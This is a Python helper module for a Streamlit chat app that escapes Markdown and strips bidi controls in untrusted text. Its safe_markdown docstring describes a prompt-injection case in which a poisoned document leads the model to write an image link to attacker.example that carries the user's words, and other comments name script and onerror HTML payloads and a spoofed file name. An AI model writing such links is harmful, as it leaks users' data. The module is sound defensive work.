"""Showing untrusted text (messages, answers, file names, documents) as the text it is.

Everything a user, a document or the model wrote reaches the page through one of three
doors: ``st.text`` / ``st.code`` / ``st.dataframe`` (shown verbatim, nothing to do),
:func:`plain` for one-line labels (buttons, expanders, captions, messages naming a file),
and :func:`safe_markdown` / :func:`safe_stream` for messages and answers, which keep their
Markdown. ``unsafe_allow_html`` and ``st.html`` are never used on such text: Streamlit then
shows raw HTML (``<script>``, ``<img onerror=...>``, ``<iframe>``) as text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# What formats inline in a one-line label: emphasis, code, links and images, HTML-like tags
# and entities, tables, strikethrough and math; a colon only when something follows it, as in
# Streamlit's :icon: and :red[...] codes ("name: reason" stays as it is).
_INLINE = re.compile(r"[\\`*_\[\]<>|~$&]|:(?=\S)")
# What formats at the start of a label: a heading, a list item, a setext underline.
_LINE_START = re.compile(r"^(?:[#+=-]|\d+[.)])")

# Bidi embeddings, overrides and isolates reorder the text after them on screen: a label
# "report\u202efdp.exe" shows as "reportexe.pdf". They are dropped, so text shows in the
# order it is stored (right-to-left scripts need none of them to display right).
_BIDI_CONTROLS = dict.fromkeys(map(ord, "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"))


def plain(text: str) -> str:
    """Escape Markdown (and Streamlit's :icon: / $math$ syntax) in a label."""
    text = " ".join(text.translate(_BIDI_CONTROLS).split())
    text = _INLINE.sub(lambda m: "\\" + m.group(), text)
    return _LINE_START.sub(lambda m: m.group()[:-1] + "\\" + m.group()[-1], text)


def safe_markdown(text: str) -> str:
    """Markdown from a model, a user or a document, made safe for ``st.markdown``.

    Streamlit already shows raw HTML as text (``unsafe_allow_html`` is off) and its renderer
    turns ``javascript:`` and ``vbscript:`` link targets into ``#``; a link fetches nothing
    until it is clicked, so links stay links. Images are the hole: the browser fetches an
    image as soon as it is shown, so an answer that a poisoned document talked the model into
    writing, ``![](https://attacker.example/?q=<what the user said>)``, would send it out
    without a click. Every image starts with a literal ``![`` (entities and escapes cannot
    make one), so escaping that bracket turns each into the text it was written as.

    It is done everywhere, code included, where it shows a stray backslash: telling code from
    text the way the renderer does needs its whole parser (a fence inside a list item ends
    with the item, say), and a guess that is wrong the other way lets an image through.
    """
    return text.translate(_BIDI_CONTROLS).replace("![", "!\\[")


def safe_stream(chunks: Iterable[str]) -> Iterator[str]:
    """:func:`safe_markdown` for text that arrives in pieces, for ``st.write_stream`` (which
    renders the text so far as Markdown after every piece): the pieces it yields add up to
    ``safe_markdown`` of the whole, also when a ``!`` ends one piece and ``[`` starts the next."""
    last = ""
    for chunk in chunks:
        text = chunk.translate(_BIDI_CONTROLS)
        if not text:
            continue
        safe = text.replace("![", "!\\[")
        yield "\\" + safe if last == "!" and text[0] == "[" else safe
        last = text[-1]


# Debian's Chromium has no emoji font: thumbs in messages show as the buttons' own icons.
_ICONS = {"👍": ":material/thumb_up:", "👎": ":material/thumb_down:"}
_CODE_SPAN = re.compile(r"(`[^`\n]+`)")


def error_text(text: str) -> str:
    """A message (an error, a notice) for ``st.error`` and kin: Markdown escaped as in
    :func:`plain`, except `code spans`, which show as code (commands to run); 👍 / 👎 shown
    as the icons the rating buttons use."""
    parts = _CODE_SPAN.split(" ".join(text.translate(_BIDI_CONTROLS).split()))
    def escaped(part: str) -> str:  # plain() trims: keep the spaces around code spans
        if not part.strip():
            return part
        return (" " if part[0] == " " else "") + plain(part) + (" " if part[-1] == " " else "")

    out = "".join(p if i % 2 else escaped(p) for i, p in enumerate(parts))
    for emoji, icon in _ICONS.items():
        out = out.replace(emoji, icon)
    return out
